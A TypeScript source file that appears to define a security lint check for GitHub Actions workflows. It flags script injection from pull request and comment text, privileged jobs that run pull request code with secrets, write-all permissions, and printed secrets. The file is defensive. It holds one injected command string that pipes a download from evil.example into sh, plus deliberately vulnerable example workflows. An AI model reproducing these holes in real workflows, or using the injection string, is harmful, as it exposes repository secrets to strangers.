import {
  at,
  checkoutSeverityOf,
  defineCheck,
  expressionsIn,
  innerOf,
  isForTrusted,
  isPrivileged,
  placeWithin,
  printedSecrets,
  readWorkflow,
  runsCode,
  scriptsOf,
  shortName,
  taintedBy,
  takesHead,
  textAtPath,
  triggersUnder,
  untrustedIn,
  writerOf,
  yaml,
} from '../../src/sdk/check.ts';
import type { DataPath, Draft, Workflow, WorkflowJob, WorkflowStep, YamlFile } from '../../src/sdk/check.ts';

export default defineCheck({
  title: 'Workflow that runs what strangers write',
  on: 'yaml',
  bullet: 'Runtime',
  severity: 'error',
  preset: 'recommended',
  why: `An expression in a script is replaced before the shell sees it: a pull request named \`"; curl evil.example | sh; "\` is a
    program. On events such as \`pull_request_target\` that program has the secrets of the repository, and so has all code that the
    job checks out from the pull request.`,
  whenNotTo: 'A person looks at each run before it starts, for example through a protected environment.',
  files: ['.github/workflows/*.yml', '.github/workflows/*.yaml', 'action.yml', 'action.yaml'],
  examples: [
    {
      title: 'Hand text over in a variable, which the shell does not read as code',
      bad: yaml`
        on: pull_request_target
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  echo "Thanks for:"
                  echo "\${{ github.event.pull_request.title }}" >> "$GITHUB_STEP_SUMMARY"  # <-
      `,
      good: yaml`
        on: pull_request_target
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: |
                  echo "Thanks for:"
                  echo "$TITLE" >> "$GITHUB_STEP_SUMMARY"
                env:
                  TITLE: \${{ github.event.pull_request.title }}
      `,
    },
    {
      title: 'Run the code of a pull request without the secrets of the repository',
      bad: yaml`
        on:
          pull_request_target:
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@v5
                with:
                  ref: \${{ github.event.pull_request.head.sha }}  # <-
              - run: pip install -e . && pytest
                env:
                  TOKEN: \${{ secrets.UPLOAD_TOKEN }}
      `,
      good: yaml`
        on:
          pull_request:
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@v5
              - run: pip install -e . && pytest
      `,
    },
    {
      title: 'Scripts of actions, and variables that carry the text on',
      bad: yaml`
        on: [issue_comment]
        permissions: write-all  # <-
        env:
          ORDER: \${{ github.event.comment.body }}
        jobs:
          obey:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/github-script@v8
                with:
                  script: |
                    const words = \`\${{ github.event.comment.body }}\`.split(' ');  # <-
              - run: ./scripts/obey.sh \${{ env.ORDER }}  # <-
              - run: echo \${{ secrets.DEPLOY_KEY }} | base64  # <-
      `,
      good: yaml`
        on: [issue_comment]
        permissions:
          issues: write
        env:
          ORDER: \${{ github.event.comment.body }}
        jobs:
          obey:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/github-script@v8
                with:
                  script: |
                    const words = context.payload.comment.body.split(' ');
              - run: ./scripts/obey.sh "$ORDER"
      `,
    },
  ],
  quiet: [
    // Numbers, hashes, names of the repository's own, comparisons, and what only people with rights write.
    yaml`
      on: [pull_request_target, push, workflow_dispatch]
      permissions: read-all
      jobs:
        label:
          if: contains(github.event.pull_request.title, 'docs')
          runs-on: ubuntu-latest
          steps:
            - run: gh pr edit \${{ github.event.pull_request.number }} --add-label \${{ inputs.label }}
            - run: git diff \${{ github.event.pull_request.base.ref }} \${{ github.event.pull_request.head.sha }}
            - run: echo "\${{ startsWith(github.head_ref, 'docs/') && 'docs' || github.ref_name }}"
            - run: echo "\${{ github.event.issue.title }}"
            - if: github.head_ref == 'main'
              name: Look at \${{ github.head_ref }}
              uses: acme/label@v2
              with: { title: "\${{ github.event.pull_request.title }}" }
    `,
    // The head is looked at, and nothing of it is run; or it comes from people with write access.
    yaml`
      on: pull_request_target
      jobs:
        preview:
          runs-on: ubuntu-latest
          steps:
            - uses: actions/checkout@v5
            - uses: actions/checkout@v5
              with:
                ref: \${{ github.event.pull_request.head.sha }}
                path: theirs
                sparse-checkout: docs
            - run: npm ci && npm run lint
        trusted:
          if: github.event.pull_request.head.repo.full_name == github.repository
          runs-on: ubuntu-latest
          steps:
            - uses: actions/checkout@v5
              with: { ref: "\${{ github.head_ref }}" }
            - run: make test
    `,
    yaml`
      on: pull_request
      jobs:
        test:
          runs-on: ubuntu-latest
          steps:
            - uses: actions/checkout@v5
              with: { ref: "\${{ github.event.pull_request.head.sha }}" }
            - run: make test
    `,
    // Secrets that are handed on, and not printed.
    yaml`
      on: push
      jobs:
        publish:
          runs-on: ubuntu-latest
          steps:
            - run: echo "\${{ secrets.REGISTRY_PASSWORD }}" | docker login -u shop --password-stdin
            - run: echo "\${{ secrets.KEY }}" > key.pem && chmod 600 key.pem
            - run: AUTH=$(echo -n "ci:\${{ secrets.TOKEN }}" | base64)
            - run: echo "::add-mask::\${{ secrets.TOKEN }}"
            - run: echo "has a token \${{ secrets.TOKEN != '' }}"
    `,
    at(
      'charts/values.yaml',
      yaml`
        on: push
        permissions: write-all
        jobs: {}
      `,
    ),
  ],
  *run(file) {
    const workflow = readWorkflow(file);
    if (!workflow) return;
    yield* findRights(workflow, []);
    for (const job of workflow.jobs) {
      yield* findRights(workflow, job.path);
      yield* findCheckouts(file, workflow, job);
      for (const step of job.steps) {
        yield* findText(file, workflow, { job, step });
        yield* findPrinted(file, workflow, step);
      }
    }
  },
});

/** All rights for every step. */
function* findRights({ document }: Workflow, path: DataPath): Iterable<Draft> {
  const place = [...path, 'permissions'];
  if (textAtPath(document.data, ...place) !== 'write-all') return;
  const span = document.spanOf(place);
  if (span)
    yield {
      at: span,
      key: place.join('.'),
      severity: 'warning',
      message: 'Every step may change everything in this repository; list the rights that the job needs.',
    };
}

interface Place {
  readonly job: WorkflowJob;
  readonly step: WorkflowStep;
}

/** Text of strangers within a script. */
function* findText(file: YamlFile, workflow: Workflow, { job, step }: Place): Iterable<Draft> {
  const tainted = taintedBy(workflow.env, job.env, step.env);
  const triggers = triggersUnder(workflow.triggers, job.condition, step.condition);
  if (workflow.triggers.length > 0 && triggers.length === 0) return;
  if (isForTrusted(job.condition) || isForTrusted(step.condition)) return;
  for (const { path, script } of scriptsOf(step)) {
    for (const expression of new Set(expressionsIn(script))) {
      const context = untrustedIn(innerOf(expression), tainted);
      const writer = context === undefined ? 'nobody' : writerOf(context, triggers);
      if (context === undefined || writer === 'nobody') continue;
      yield {
        at: placeWithin(file, workflow.document, path, expression),
        key: `${path.join('.')} ${innerOf(expression)}`,
        message: `Whoever writes \`${shortName(context, 45)}\` can put commands into this script; hand it over in \`env\` and quote it there.`,
        severity: writer === 'outsiders' ? 'error' : 'warning',
      };
    }
  }
}

/** Code of a pull request, run with the rights of the repository. */
function* findCheckouts(file: YamlFile, workflow: Workflow, job: WorkflowJob): Iterable<Draft> {
  if (!isPrivileged(triggersUnder(workflow.triggers, job.condition)) || isForTrusted(job.condition)) return;
  for (const [index, step] of job.steps.entries()) {
    const taken = takesHead(step);
    if (
      taken === undefined ||
      isForTrusted(step.condition) ||
      !isPrivileged(triggersUnder(workflow.triggers, job.condition, step.condition))
    )
      continue;
    const folder = taken === 'run' ? undefined : textAtPath(step.inputs, 'path');
    const later = [...(taken === 'run' ? [step] : []), ...job.steps.slice(index + 1)];
    const runs = later.some((other) => runsCode(other, job, folder) && !isForTrusted(other.condition));
    if (!runs) continue;
    const path = [...step.path, ...(taken === 'run' ? ['run'] : ['with', taken])];
    yield {
      at: workflow.document.spanOf(path) ?? placeWithin(file, workflow.document, step.path, ''),
      key: `checkout ${job.path.join('.')}`,
      message:
        'This job runs the code of a pull request with the rights of the repository; run it on `pull_request` instead.',
      severity: checkoutSeverityOf(workflow, job),
    };
  }
}

function* findPrinted(file: YamlFile, { document }: Workflow, { path, run = '' }: WorkflowStep): Iterable<Draft> {
  for (const line of printedSecrets(run)) {
    const message = 'This prints a secret, and the log hides only its exact text; drop the line.';
    yield {
      at: placeWithin(file, document, [...path, 'run'], line.trim()),
      key: `print ${path.join('.')}`,
      message,
      severity: 'warning',
    };
  }
}
